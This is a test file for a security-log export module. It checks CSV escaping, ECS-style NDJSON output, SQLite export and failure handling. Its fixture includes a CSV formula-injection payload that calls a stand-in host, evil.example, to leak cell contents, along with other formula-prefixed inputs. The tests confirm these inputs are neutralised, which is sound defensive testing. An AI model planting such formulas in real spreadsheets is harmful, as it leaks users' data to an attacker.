import { readdir, readFile, stat } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import type { EventRow } from '../../shared/api/types.js';
import { COLUMNS } from '../../electron/engine/export/columns.js';
import { csvCell } from '../../electron/engine/export/csv.js';
import { writeExport, type ExportFormat } from '../../electron/engine/export/index.js';
import { loadSqlJs } from '../../electron/engine/store/sqljs.js';
import { parseCsv, securityRow, tempDir, wrsRow } from './helpers.js';

const HOSTILE = [
  'a, comma',
  'a "quote"',
  'two\nlines',
  'cr\rand crlf\r\n',
  'acentos: víctima, atacante, ñ, €',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
];

/** Events whose text fields carry what CSV must survive. */
function hostileRows(): EventRow[] {
  return HOSTILE.map((text, i) =>
    securityRow({ id: i + 1, originator: text, source: `stick/${i}.log`, problems: [text] }),
  );
}

/** Pages that fail after the first one, as a store read cut short would. */
async function* failingPages(): AsyncGenerator<EventRow[]> {
  yield [securityRow()];
  throw new Error('the store went away');
}

describe('csvCell', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+cmd', "'+cmd"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tTAB', "'\tTAB"],
    ['\rx', `"'\rx"`],
    ['-1', '-1'],
    ['+2.5', '+2.5'],
    [-1, '-1'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    [null, ''],
    ['víctima', 'víctima'],
  ] as const)('writes %j as %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });
});

describe('writeExport csv', () => {
  it('round-trips commas, quotes, newlines, accents and a formula through RFC 4180', async () => {
    const out = path.join(await tempDir(), 'events.csv');
    const result = await writeExport('csv', out, [
      hostileRows().slice(0, 3),
      hostileRows().slice(3),
    ]);
    const raw = await readFile(out);
    expect(result).toEqual({ rows: HOSTILE.length, bytes: raw.length });
    expect([...raw.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const records = parseCsv(raw.toString('utf8').slice(1));
    expect(records[0]).toEqual(COLUMNS.map((c) => c.name));
    const originator = records[0]!.indexOf('originator');
    const cells = records.slice(1).map((r) => r[originator]);
    expect(cells.slice(0, 5)).toEqual(HOSTILE.slice(0, 5));
    expect(cells[5]).toBe(`'${HOSTILE[5]}`);
    expect(records.slice(1).every((r) => r.length === COLUMNS.length)).toBe(true);
  });

  it('writes numbers, empty cells for nulls, and a negative score unquoted', async () => {
    const out = path.join(await tempDir(), 'wrs.csv');
    await writeExport('csv', out, [[wrsRow({ repScore: -1 })]], {
      ruleName: () => 'never asked',
    });
    const [header, row] = parseCsv((await readFile(out, 'utf8')).slice(1));
    const cell = (name: string) => row![header!.indexOf(name)];
    expect(cell('rep_score')).toBe('-1');
    expect(cell('rule_id')).toBe('');
    expect(cell('rule_name')).toBe('');
    expect(cell('rep_address')).toBe('206.130.113.68:80/eicar.com');
  });

  it('names rules when given a lookup', async () => {
    const out = path.join(await tempDir(), 'named.csv');
    await writeExport('csv', out, [[securityRow()]], {
      ruleName: (id) => (id === '1133810' ? 'Brute force login' : null),
    });
    const [header, row] = parseCsv((await readFile(out, 'utf8')).slice(1));
    expect(row![header!.indexOf('rule_name')]).toBe('Brute force login');
  });
});

describe('writeExport ndjson', () => {
  it('writes one ECS document per line for a security rule', async () => {
    const out = path.join(await tempDir(), 'events.ndjson');
    await writeExport('ndjson', out, [[securityRow({ problems: ['role word odd'] })]], {
      ruleName: () => 'Brute force login',
    });
    const lines = (await readFile(out, 'utf8')).split('\n');
    expect(lines.at(-1)).toBe('');
    const doc = JSON.parse(lines[0]!);
    expect(doc).toMatchObject({
      '@timestamp': '2019-12-16T00:58:58',
      event: {
        kind: 'alert',
        category: ['intrusion_detection'],
        type: ['denied'],
        action: 'brute_force',
        module: 'trendmicro_iot',
        dataset: 'trendmicro_iot.security_rule',
        sequence: 1,
      },
      rule: { id: '1133810', name: 'Brute force login' },
      source: { ip: '10.42.2.33', port: 1775 },
      destination: { ip: '192.168.40.78', port: 80 },
      host: { ip: ['192.168.40.78'] },
      observer: { ip: ['192.168.40.78'], vendor: 'Trend Micro' },
      network: { direction: 'ingress' },
      log: { file: { path: 'stick/cam1/syslog.txt' } },
      seclog: {
        line: 12,
        role: 'victim',
        attacker: '10.42.2.33',
        victim: '192.168.40.78',
        problems: ['role word odd'],
      },
    });
    expect(doc.related.ip.sort()).toEqual(['10.42.2.33', '192.168.40.78']);
    expect(doc.url).toBeUndefined();
  });

  it('writes a WRS event with its URL, reputation and the device as the source', async () => {
    const out = path.join(await tempDir(), 'wrs.ndjson');
    await writeExport('ndjson', out, [[wrsRow()]]);
    const doc = JSON.parse((await readFile(out, 'utf8')).trim());
    expect(doc).toMatchObject({
      event: { category: ['network'], dataset: 'trendmicro_iot.wrs' },
      source: { ip: '192.168.40.78' },
      destination: { ip: '206.130.113.68', port: 80 },
      url: {
        original: '206.130.113.68:80/eicar.com',
        path: '/eicar.com',
        domain: '206.130.113.68',
        port: 80,
      },
      network: { direction: 'egress' },
      seclog: { reputation: { score: 47, band: 'dangerous' } },
    });
    expect(doc.rule).toBeUndefined();
    expect(doc.event.sequence).toBeUndefined();
    expect(doc.seclog.problems).toBeUndefined();
  });

  it('keeps a damaged address as text, out of the typed ip fields', async () => {
    const out = path.join(await tempDir(), 'damaged.ndjson');
    await writeExport('ndjson', out, [[securityRow({ srcIp: '192.192.25.831' })]]);
    const doc = JSON.parse((await readFile(out, 'utf8')).trim());
    expect(doc.source).toEqual({ address: '192.192.25.831', port: 1775 });
    expect(doc.related.ip).not.toContain('192.192.25.831');
  });

  it('puts an index action before each document in bulk mode', async () => {
    const out = path.join(await tempDir(), 'bulk.ndjson');
    await writeExport('ndjson', out, [[securityRow(), wrsRow()]], { bulk: true });
    const lines = (await readFile(out, 'utf8')).trimEnd().split('\n');
    expect(lines).toHaveLength(4);
    expect(lines[0]).toBe('{"index":{}}');
    expect(lines[2]).toBe('{"index":{}}');
    expect(JSON.parse(lines[3]!).event.dataset).toBe('trendmicro_iot.wrs');
  });
});

describe('writeExport sqlite', () => {
  it('writes a database that sql.js opens, with the rows and a meta table', async () => {
    const out = path.join(await tempDir(), 'events.sqlite');
    const now = new Date('2026-01-02T03:04:05Z');
    const rows = hostileRows();
    const result = await writeExport('sqlite', out, [rows.slice(0, 2), rows.slice(2), [wrsRow()]], {
      version: '9.9.9',
      now,
    });
    const bytes = await readFile(out);
    expect(result).toEqual({ rows: rows.length + 1, bytes: bytes.length });
    const SQL = await loadSqlJs();
    const db = new SQL.Database(bytes);
    try {
      const meta = db.exec('SELECT key, value FROM meta ORDER BY key')[0]!.values;
      expect(meta).toContainEqual(['seclog_version', '9.9.9']);
      expect(meta).toContainEqual(['exported_at', '2026-01-02T03:04:05.000Z']);
      const got = db.exec(
        "SELECT originator, time, rep_score, problems FROM events WHERE originator <> '' " +
          'ORDER BY rowid',
      )[0]!.values;
      expect(got.map((r) => r[0])).toEqual(HOSTILE);
      expect(got[0]!.slice(1)).toEqual(['2019-12-16 00:58:58', null, JSON.stringify([HOSTILE[0]])]);
      const wrs = db.exec("SELECT rep_score, rep_band FROM events WHERE message_type = 'wrs'");
      expect(wrs[0]!.values).toEqual([[47, 'dangerous']]);
    } finally {
      db.close();
    }
  });
});

describe('writeExport failures', () => {
  it.each(['csv', 'ndjson', 'sqlite'] as ExportFormat[])(
    'leaves no file at all when the pages fail (%s)',
    async (format) => {
      const dir = await tempDir();
      const out = path.join(dir, `events.${format}`);
      await expect(writeExport(format, out, failingPages())).rejects.toThrow(/went away/);
      expect(await readdir(dir)).toEqual([]);
    },
  );

  it('keeps the previous file when a new export over it fails', async () => {
    const dir = await tempDir();
    const out = path.join(dir, 'events.csv');
    await writeExport('csv', out, [[securityRow()]]);
    const before = await stat(out);
    await expect(writeExport('csv', out, failingPages())).rejects.toThrow(/went away/);
    expect((await stat(out)).size).toBe(before.size);
    expect(await readdir(dir)).toEqual(['events.csv']);
  });

  it('fails before reading any page when the folder does not exist', async () => {
    const out = path.join(await tempDir(), 'missing', 'events.csv');
    let pulled = 0;
    const pages = (function* () {
      pulled++;
      yield [securityRow()];
    })();
    await expect(writeExport('csv', out, pages)).rejects.toThrow(
      /^cannot write '.*events\.csv': the folder to write into does not exist/,
    );
    expect(pulled).toBe(0);
  });

  it('refuses a format it does not know', async () => {
    const out = path.join(await tempDir(), 'x');
    await expect(writeExport('xml' as ExportFormat, out, [])).rejects.toThrow(/unknown export/);
  });
});

describe('writeExport streaming', () => {
  it('writes many pages through the stream, waiting for it to drain', async () => {
    const out = path.join(await tempDir(), 'big.ndjson');
    let pages = 0;
    const source = (function* () {
      for (let p = 0; p < 40; p++) {
        pages++;
        yield Array.from({ length: 500 }, (_, i) => securityRow({ id: p * 500 + i + 1 }));
      }
    })();
    const result = await writeExport('ndjson', out, source);
    expect(result.rows).toBe(20_000);
    expect(pages).toBe(40);
    expect(result.bytes).toBe((await stat(out)).size);
    expect(result.bytes).toBeGreaterThan(16 * 1024 * 40); // well past the stream's buffer
  });
});
